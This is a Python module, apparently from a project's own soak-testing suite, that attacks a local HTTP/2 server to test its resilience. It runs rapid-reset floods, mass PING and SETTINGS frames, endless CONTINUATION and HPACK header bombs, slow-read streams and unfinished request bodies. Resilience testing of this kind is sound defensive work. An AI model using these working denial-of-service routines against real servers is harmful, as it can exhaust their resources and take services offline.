"""Connections of HTTP/2 whose frames are many, empty or endless, and whose streams are reset or never read."""

import ssl
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from functools import partial
from typing import Final

import hpack

from apiext.base.http2 import frames
from hack.lib.servers import tls_connection
from hack.lib.soak.attack import BROKEN, Attack
from hack.lib.soak.collection import ALL, ATTACKED, KEPT

_PATIENCE: Final = 10.0
"""Seconds until a client gives up to send what the server does not receive."""
_PACE: Final = 0.2
_AT_ONCE: Final = 64 * 1024
"""Bytes that a client sends before it looks whether the connection still is."""


@contextmanager
def _connection(attack: Attack, *, credentials: bool, settings: bytes = b"") -> Iterator[ssl.SSLSocket]:
    """Open a connection of HTTP/2 for the block. A client that the server refuses ends it silently."""
    access = attack.direct
    pair = (access.pair.cert, access.pair.key) if credentials else (None, None)
    context = tls_connection.client_context(access.ca, *pair)
    context.set_alpn_protocols(["h2"])
    with suppress(*BROKEN), tls_connection.connect(context, access.port, server_hostname="localhost", timeout=_PATIENCE) as connection:
        connection.sendall(frames.PREFACE + (settings or frames.settings({})))
        yield connection


def _send(connection: ssl.SSLSocket, data: bytes) -> None:
    for at in range(0, len(data), _AT_ONCE):
        connection.sendall(data[at : at + _AT_ONCE])


def _head(stream_id: int, path: str, method: str = "GET", *, ends: bool = True) -> bytes:
    """Return a request without the table of the connection."""
    fields = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path)]
    block = hpack.Encoder().encode([(*field, True) for field in fields])
    return frames.frame(frames.HEADERS, frames.END_HEADERS | (frames.END_STREAM if ends else 0), stream_id, block)


def rapid_resets(attack: Attack) -> None:
    """Begin requests and reset them at once, 10,000 on each of 20 connections."""

    def flood(credentials: bool) -> None:  # noqa: FBT001 -- one of two kinds
        streams = range(1, 2 * attack.size(10_000, 500), 2)
        data = b"".join(_head(stream, f"{KEPT}?limit=500") + frames.reset(stream, frames.CANCEL) for stream in streams)
        with _connection(attack, credentials=credentials) as connection:
            _send(connection, data)

    attack.together([partial(flood, credentials) for credentials in (True, False) for _ in range(attack.size(10, 2))])


def floods_of_frames(attack: Attack) -> None:
    """Send a million frames that ask for little or nothing, of each kind, and receive nothing."""
    post = _head(1, ATTACKED, "POST", ends=False)
    for begin, frame in (
        (b"", frames.frame(frames.PING, 0, 0, bytes(frames.PING_BYTES))),
        (b"", frames.settings({})),
        (b"", frames.settings({frames.INITIAL_WINDOW_SIZE: 0}) + frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535})),
        (b"", frames.frame(frames.PRIORITY_FRAME, 0, 3, b"\0\0\0\x01\x10")),
        (b"", frames.frame(0x42, 0, 1)),
        (post, frames.frame(frames.DATA, 0, 1)),
        (post, frames.frame(frames.DATA, frames.PADDED, 1, b"\x05\0\0\0\0\0")),
        (post, frames.frame(frames.DATA, 0, 1, b" ")),
        (post, frames.window_update(1, 1)),
        (post, frames.window_update(0, 1)),
    ):
        with _connection(attack, credentials=True) as connection:
            _send(connection, begin + frame * attack.size(1_000_000, 20_000))


def large_header_blocks(attack: Attack) -> None:
    """Send header blocks that do not end, that stand for many fields, and that fill the table again and again."""
    entry = hpack.Encoder().encode([("a", "b" * 4000)], huffman=False)
    begin = frames.frame(frames.HEADERS, 0, 1, b"\x82")
    for data in (
        begin + frames.frame(frames.CONTINUATION, 0, 1) * attack.size(500_000, 20_000),
        begin + frames.frame(frames.CONTINUATION, 0, 1, b"\0\x01a\x7f\xff\x7f" + b"x" * 16_000) * attack.size(500, 20),
        frames.frame(frames.HEADERS, frames.END_HEADERS, 1, entry + b"\xbe" * 16_000),
        b"".join(
            frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, entry + b"\x82\x87\x84" + b"\xbe" * 60)
            for stream in range(1, 2 * attack.size(5_000, 200), 2)
        ),
        b"".join(
            frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, b"\x82\x87\x84" + entry * 3)
            for stream in range(1, 2 * attack.size(2_000, 100), 2)
        ),
    ):
        for credentials in (True, False):
            with _connection(attack, credentials=credentials) as connection:
                _send(connection, data)


def unread_streams(attack: Attack) -> None:
    """Ask for lists on 100 streams of each of 20 connections whose windows are closed, or are opened by a byte at a time."""

    def hold(window: int) -> None:
        settings = frames.settings({frames.INITIAL_WINDOW_SIZE: window})
        with _connection(attack, credentials=True, settings=settings) as connection:
            streams = range(1, 200, 2)
            _send(connection, b"".join(_head(stream, f"{ALL}?limit=500") for stream in streams))
            for _ in range(attack.size(20, 2)):
                time.sleep(_PACE)
                _send(connection, b"".join(frames.window_update(stream, 1) for stream in streams))

    attack.together([partial(hold, window) for window in (0, 1, 65_535) for _ in range(attack.size(7, 1))])


def unfinished_bodies(attack: Attack) -> None:
    """Send a part of a body on 100 streams of each of 20 connections, and nothing more."""

    def begin(credentials: bool) -> None:  # noqa: FBT001 -- one of two kinds
        with _connection(attack, credentials=credentials) as connection:
            part = frames.frame(frames.DATA, 0, 0, b" " * 16_000)
            for stream in range(1, 200, 2):
                _send(connection, _head(stream, ATTACKED, "POST", ends=False))
                for _ in range(attack.size(4, 1)):
                    connection.sendall(part[:5] + stream.to_bytes(4) + part[9:])
            time.sleep(attack.size(10, 1) * _PACE)

    attack.together([partial(begin, credentials) for credentials in (True, False) for _ in range(attack.size(10, 2))])


INPUTS: Final = (
    rapid_resets,
    floods_of_frames,
    large_header_blocks,
    unread_streams,
    unfinished_bodies,
)
